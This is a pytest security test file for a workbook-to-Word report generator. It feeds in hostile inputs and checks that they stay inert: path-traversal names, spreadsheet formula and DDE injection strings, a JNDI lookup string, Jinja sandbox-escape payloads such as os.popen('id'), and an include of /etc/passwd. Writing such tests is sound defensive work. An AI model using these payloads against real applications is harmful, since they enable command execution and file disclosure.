"""Security tests: hostile cell values, hostile templates, swapped files, and what leaves the server.

Each test is the proof named for one threat in docs/security.md.
"""

from __future__ import annotations

import datetime as dt
import os
import re
import shutil
import zipfile
from pathlib import Path

import corpus
import docx
import pytest
from adversarial import CANARY_TEXT
from builders import WorkbookBuilder
from lxml import etree

from sos_docs import guard
from sos_docs.config import DEFAULT_CONFIG, DEFAULT_TEMPLATES_DIR, Config
from sos_docs.errors import RenderError, TemplateError, WorkbookError
from sos_docs.pipeline import DOCUMENT_KINDS, REPORT, process_workbook
from sos_docs.render import render_document

TODAY = dt.date(2026, 11, 28)
FIELD_CODE = re.compile(r"<w:instrText[^>]*>\s*(\S+)")
W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"

HOSTILE_NAMES = (
    "../../x",
    "..",
    ".",
    "CON",
    "a/b",
    "a\\b",
    "/etc/passwd",
    "C:\\Windows\\x",
    "\\\\server\\share\\x",
    "~root",
    "x" * 500,
    "line one\nline two",
    "CP-1\n../../x",
    " . . ",
)
LITERAL_TEXTS = (
    '=HYPERLINK("http://x","y")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1+1",
    "{{ 7*7 }}",
    "{% for x in range(3) %}x{% endfor %}",
    "{{ cycler.__init__.__globals__ }}",
    "${jndi:ldap://x/a}",
    "<w:p><w:r><w:t>injected</w:t></w:r></w:p>",
)


# --------------------------------------------------------------------------------------------
# Helpers


def document_texts(path: Path) -> list[str]:
    """Each paragraph's text in every part of a .docx (body, headers, footers), breaks as \\n."""
    texts = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if not (name.startswith("word/") and name.endswith(".xml")):
                continue
            root = etree.fromstring(archive.read(name))
            for paragraph in root.iter(f"{W}p"):
                texts.append("".join(_run_text(node) for node in paragraph.iter()))
    return texts


def _run_text(node: etree._Element) -> str:
    if node.tag == f"{W}t":
        return node.text or ""
    if node.tag == f"{W}br":
        return "\n"
    if node.tag == f"{W}tab":
        return "\t"
    return ""


def files_under(folder: Path) -> list[Path]:
    """Every file (and link) under a folder."""
    return sorted(p for p in folder.rglob("*") if p.is_file() or p.is_symlink())


def run_case(tmp_path: Path, book: WorkbookBuilder) -> tuple[Path, list[Path]]:
    """Process a workbook written from `book`; the output root and the documents written."""
    workbook = book.write(tmp_path / "in" / "case.xlsx")
    out_root = tmp_path / "out" / "reports"
    outcome = process_workbook(workbook, out_root, today=TODAY)
    assert outcome.ok, outcome.validation.problems
    return out_root, list(outcome.documents)


def assert_only_under(tmp_path: Path, out_root: Path, documents: list[Path]) -> None:
    """Every document is inside the output root, and nothing else appeared anywhere."""
    real_root = out_root.resolve()
    for document in documents:
        assert document.resolve().is_relative_to(real_root)
        assert document.resolve().parent.parent == real_root  # <case folder>/<file>
    written = [p for p in files_under(tmp_path) if not p.is_relative_to(tmp_path / "in")]
    assert sorted(written) == sorted(documents)


# --------------------------------------------------------------------------------------------
# Hostile cell values


@pytest.mark.parametrize("reference", HOSTILE_NAMES, ids=repr)
def test_a_hostile_case_reference_never_writes_outside_reports(
    reference: str, tmp_path: Path
) -> None:
    """Traversal, device names, separators, 500 characters or newlines stay inside reports/."""
    out_root, documents = run_case(
        tmp_path, WorkbookBuilder().set_case("Case reference", reference)
    )
    assert len(documents) == len(DOCUMENT_KINDS)
    assert_only_under(tmp_path, out_root, documents)
    for document in documents:
        assert len(document.name.encode()) <= 255
        assert document.name.split(".")[0].upper() not in ("CON", "")
    report = next(d for d in documents if REPORT.title in d.name)
    assert any(reference.strip() in text for text in document_texts(report))


def test_a_500_character_case_reference_leaves_title_and_date_in_the_file_names(
    tmp_path: Path,
) -> None:
    """The case reference is shortened, not the document's title and date after it."""
    book = WorkbookBuilder().set_case("Case reference", "R" * 500)
    _, documents = run_case(tmp_path, book)
    names = sorted(d.name for d in documents)
    assert [n.split(" ", 1)[1] for n in names] == [
        "Conference report 2026-11-27.docx",
        "Words and pictures 2026-11-27.docx",
    ]
    assert all(len(n.encode()) <= 120 for n in names)


@pytest.mark.parametrize("name", HOSTILE_NAMES, ids=repr)
def test_a_hostile_child_name_is_shown_as_typed_and_writes_nothing_else(
    name: str, tmp_path: Path
) -> None:
    """A child's name like `../../x` or with newlines appears literally and never becomes a path."""
    book = WorkbookBuilder().update_row("Children", 0, Name=name)
    for row in book.rows("Harm"):  # the example names Mia there by her name
        row["Children"] = str(row.get("Children") or "").replace("Mia Hartley", "C1")
    out_root, documents = run_case(tmp_path, book)
    assert_only_under(tmp_path, out_root, documents)
    report = next(d for d in documents if REPORT.title in d.name)
    assert any(name.strip() in text for text in document_texts(report))


@pytest.mark.parametrize("text", LITERAL_TEXTS, ids=repr)
def test_formula_and_template_looking_text_stays_text(text: str, tmp_path: Path) -> None:
    """Text typed as =HYPERLINK(...), {{ }} or XML is printed literally: no field, link or tag."""

    def as_text_cells(book: object) -> None:
        for sheet, cell in (("Case", "B11"), ("Danger statements", "B2")):
            target = book[sheet][cell]  # type: ignore[index]
            target.value = text
            target.data_type = "s"  # as Excel stores '=HYPERLINK(...) typed with a quote

    book = WorkbookBuilder().then(as_text_cells)
    _, documents = run_case(tmp_path, book)
    report = next(d for d in documents if REPORT.title in d.name)
    assert sum(text in t for t in document_texts(report)) >= 2
    with zipfile.ZipFile(report) as archive:
        xml = "".join(archive.read(n).decode() for n in archive.namelist() if n.endswith(".xml"))
        rels = "".join(archive.read(n).decode() for n in archive.namelist() if n.endswith(".rels"))
    for live in ("<w:fldSimple", "<w:hyperlink", "injected</w:t>"):
        assert live not in xml
    assert set(FIELD_CODE.findall(xml)) <= {"PAGE", "NUMPAGES"}  # the template's own footer
    assert "http://x" not in rels


def test_a_formula_cell_shows_its_saved_value_never_the_formula(tmp_path: Path) -> None:
    """A real =HYPERLINK formula with a saved value prints the value; no link is made."""
    path = WorkbookBuilder().write(tmp_path / "in" / "case.xlsx")
    cell = WorkbookBuilder().cell("Case", "Reason for report")
    corpus.replace_cell(
        path,
        corpus.sheet_part(path, "Case"),
        cell,
        f'<c r="{cell}" t="str"><f>HYPERLINK("http://x","Reason in a link")</f>'
        "<v>Reason in a link</v></c>",
    )
    outcome = process_workbook(path, tmp_path / "out", today=TODAY)
    assert outcome.ok, outcome.validation.problems
    report = next(d for d in outcome.documents if REPORT.title in d.name)
    assert "Reason in a link" in document_texts(report)
    with zipfile.ZipFile(report) as archive:
        everything = b"".join(archive.read(n) for n in archive.namelist())
    assert b"HYPERLINK" not in everything
    assert b"http://x" not in everything


# --------------------------------------------------------------------------------------------
# Hostile templates


def template_with(tmp_path: Path, *paragraphs: str) -> Path:
    """A .docx template holding these paragraphs."""
    document = docx.Document()
    for text in paragraphs:
        document.add_paragraph(text)
    path = tmp_path / "templates" / REPORT.template
    path.parent.mkdir(parents=True, exist_ok=True)
    document.save(path)
    return path


@pytest.mark.parametrize(
    "tag",
    [
        "{{ ''.__class__.__mro__ }}",
        "{{ cycler.__init__.__globals__ }}",
        "{{ joiner.__init__.__globals__.os.popen('id').read() }}",
        "{{ namespace.__init__.__globals__ }}",
        "{{ lipsum.__globals__['os'] }}",
        "{{ ''|attr('__class__') }}",
        "{{ case_reference.__class__.__base__.__subclasses__() }}",
        "{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
    ],
)
def test_a_template_reaching_for_python_fails_with_a_template_error(
    tag: str, tmp_path: Path
) -> None:
    """Sandbox escapes in a template stop rendering with a plain TemplateError, and run nothing."""
    template = template_with(tmp_path, "Report for {{ case_reference }}", tag)
    with pytest.raises(TemplateError) as raised:
        render_document(template, {"case_reference": "CP-1"})
    message = str(raised.value)
    assert template.name in message
    assert "may not do" in message
    assert "\n" not in message


@pytest.mark.parametrize(
    "tag", ["{% include '/etc/passwd' %}", "{% import 'os' as os %}", "{% extends 'base' %}"]
)
def test_a_template_cannot_load_other_files(tag: str, tmp_path: Path) -> None:
    """include, import and extends have nothing to load from: an error, no file read."""
    template = template_with(tmp_path, tag)
    with pytest.raises((TemplateError, RenderError)):
        render_document(template, {"case_reference": "CP-1"})


def test_a_hostile_template_in_the_pipeline_rejects_without_documents(tmp_path: Path) -> None:
    """Through process_workbook the sandbox error surfaces as a TemplateError and nothing is written."""
    templates = tmp_path / "templates"
    shutil.copytree(DEFAULT_TEMPLATES_DIR, templates)
    template_with(tmp_path, "{{ cycler.__init__.__globals__ }}")
    workbook = WorkbookBuilder().write(tmp_path / "in" / "case.xlsx")
    config = Config(templates_dir=templates)
    with pytest.raises(TemplateError, match="may not do"):
        process_workbook(workbook, tmp_path / "out", config, today=TODAY)
    assert not (tmp_path / "out").exists()
    assert DEFAULT_CONFIG.templates_dir == DEFAULT_TEMPLATES_DIR


# --------------------------------------------------------------------------------------------
# Files swapped between the check and the open


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="named pipes need POSIX")
def test_a_pipe_swapped_in_after_the_check_is_refused_without_hanging(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The opened file is checked again, and opening never blocks on a named pipe."""
    regular = corpus.zip_file(tmp_path / "regular.xlsx", {"a": b"b"})
    os.mkfifo(tmp_path / "pipe.xlsx")
    real_lstat = os.lstat
    monkeypatch.setattr(guard.os, "lstat", lambda path: real_lstat(regular))
    with pytest.raises(WorkbookError, match="not an ordinary file"):
        guard.read_checked_workbook(tmp_path / "pipe.xlsx")


def test_a_link_swapped_in_after_the_check_is_not_followed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A name that becomes a symbolic link after the check is refused at the open."""
    secret = tmp_path / "outside" / "secret.xlsx"
    secret.parent.mkdir()
    secret.write_text(CANARY_TEXT)
    link = tmp_path / "inbox" / "case.xlsx"
    link.parent.mkdir()
    link.symlink_to(secret)
    real_lstat = os.lstat
    monkeypatch.setattr(guard.os, "lstat", lambda path: real_lstat(secret))
    with pytest.raises(WorkbookError, match="symbolic link") as raised:
        guard.read_checked_workbook(link)
    assert CANARY_TEXT not in str(raised.value)
